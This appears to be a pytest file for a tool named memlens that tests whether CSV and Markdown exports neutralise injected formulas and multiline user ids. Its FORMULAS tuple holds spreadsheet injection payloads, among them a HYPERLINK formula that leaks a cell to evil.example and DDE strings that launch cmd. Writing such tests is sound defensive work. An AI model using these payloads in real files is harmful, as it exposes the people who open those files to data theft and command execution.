"""CSV and Markdown injection (issue 12 #10): user ids that a spreadsheet would run as formulas, and a user id with
blank lines that would break the weekly Markdown report into paragraphs. The hostile ids take the real path: op-log
lines → `collect_oplogs` → warehouse → `memlens query --csv` (a real CLI process), the cost review's CSV and
Markdown, the dashboard's tables (whose toolbar exports CSV) and the merge-ids CSV."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pandas as pd
import pytest
from reliability_support import dumps, valid_event, write_jsonl

from memlens import cost_review
from memlens.collectors.oplog import collect_oplogs
from memlens.config import default_config
from memlens.safetext import FORMULA_START, csv_cell, csv_frame, md_escape
from memlens.warehouse import connect

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1")
MULTILINE = "alice\n\n# You are fired\n- item\n\n| a | b |"


def _is_formula(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: starts with a formula character and is not a plain number."""
    return cell.startswith(FORMULA_START) and csv_cell(cell) != cell


@pytest.fixture
def hostile_warehouse(tmp_path) -> Path:
    lines = []
    for i in range(40):
        ev = valid_event(i, 77)
        ev["user_id"] = (*FORMULAS, MULTILINE)[i % (len(FORMULAS) + 1)]
        lines.append(dumps(ev))
    log = write_jsonl(tmp_path / "formulas.jsonl", lines)
    path = tmp_path / "formulas.duckdb"
    con = connect(path)
    try:
        assert collect_oplogs(con, [log], default_config()).rows_loaded == 40
    finally:
        con.close()
    return path


def test_csv_cell_neutralises_formula_starts_and_keeps_numbers():
    assert [csv_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [csv_cell(v) for v in ("-12.5", "+70.0 %", "-1,234", "1e-3", "alice", "", None, -3, 2.5)] == [
        "-12.5", "+70.0 %", "-1,234", "1e-3", "alice", "", None, -3, 2.5]
    frame = csv_frame(pd.DataFrame({"=cmd": ["=1+1", "ok"], "n": [-1, 2]}))
    assert list(frame.columns) == ["'=cmd", "n"] and frame["'=cmd"].tolist() == ["'=1+1", "ok"]


def test_query_csv_from_the_cli_has_no_formula_cell(hostile_warehouse, tmp_path):
    out = subprocess.run([sys.executable, "-m", "memlens.cli", "query", "stg_op_events", "--csv", "--warehouse",
                          str(hostile_warehouse)], capture_output=True, timeout=120,
                         env=dict(os.environ, MEMLENS_HOME=str(tmp_path)))
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == 40
    assert [c for r in rows for c in r if _is_formula(c)] == []
    users = {r[header.index("user_id")] for r in body}
    assert users == {"'" + f for f in FORMULAS} | {MULTILINE}  # the value is kept, behind the quote


def test_every_view_as_csv_has_no_formula_cell(hostile_warehouse):
    from memlens.queries import read_view
    from memlens.safetext import to_csv
    from memlens.warehouse import view_names

    con = connect(hostile_warehouse)
    try:
        found = {v: hits for v in view_names()
                 if (hits := [c for r in csv.reader(io.StringIO(to_csv(read_view(con, v)), newline="")) for c in r
                              if _is_formula(c)])}
    finally:
        con.close()
    assert found == {}


def _review(op: str, user_id: str | None = None):
    """The weekly review of 2026-W47 over three priced calls of `op` (written straight into the raw table: an op
    name the collector would refuse, to check the exports do not trust their input)."""
    from view_support import event, insert_events

    from memlens import layer

    con = connect(":memory:")
    ts = datetime(2026, 11, 20, 12)
    insert_events(con, [event(ts, op, user_id=user_id, llm_model="gpt-4o", llm_input_tokens=40_000,
                              llm_output_tokens=0) for _ in range(3)])
    week = cost_review.resolve_week("2026-W47", False, datetime(2026, 11, 30))
    return cost_review.weekly(con, week, layer.ALL, default_config())


def test_weekly_report_keeps_a_multiline_user_id_on_its_line():
    md = cost_review.to_markdown(_review("search", user_id=MULTILINE))
    assert "You are fired" in md  # the user's row is there, on one line
    assert not [line for line in md.splitlines() if line.lstrip().startswith(("# You", "- item", "| a | b"))]
    assert md_escape("a\r\n\r\nb\u2028c\u0085d") == "a b c d"
    # The CSVs of a review: a hostile op name (it cannot pass the collector, but the CSV must not trust it).
    texts = cost_review.csv_texts(_review("=HYPERLINK(1)"))
    assert [c for text in texts.values() for r in csv.reader(io.StringIO(text, newline="")) for c in r
            if _is_formula(c)] == []
    assert any("'=HYPERLINK(1)" in text for text in texts.values())


def test_dashboard_tables_hold_no_formula_cell(hostile_warehouse, tmp_path, monkeypatch):
    """The Cost page's top-spenders table shows user ids; its toolbar's CSV export writes what the table holds."""
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    cfg = tmp_path / "memlens.yaml"
    cfg.write_text("dashboard:\n  demo_when_empty: false\n", encoding="utf-8")
    monkeypatch.setenv("MEMLENS_CONFIG", str(cfg))
    monkeypatch.setenv("MEMLENS_WAREHOUSE", str(hostile_warehouse))
    st.cache_data.clear()
    st.cache_resource.clear()
    at = AppTest.from_file(str(Path(__file__).resolve().parent.parent / "dashboard" / "app.py"), default_timeout=120)
    at.run()
    at.switch_page("app_pages/cost.py").run()
    at.session_state["cost_tab"] = "Breakdown & top spenders"  # only the chosen tab runs
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    cells = [str(v) for df in at.dataframe for col in df.value.columns for v in df.value[col].tolist()]
    assert any(c.startswith("'=HYPERLINK") for c in cells), "the user table did not show the hostile ids"
    assert [c for c in cells if _is_formula(c)] == []
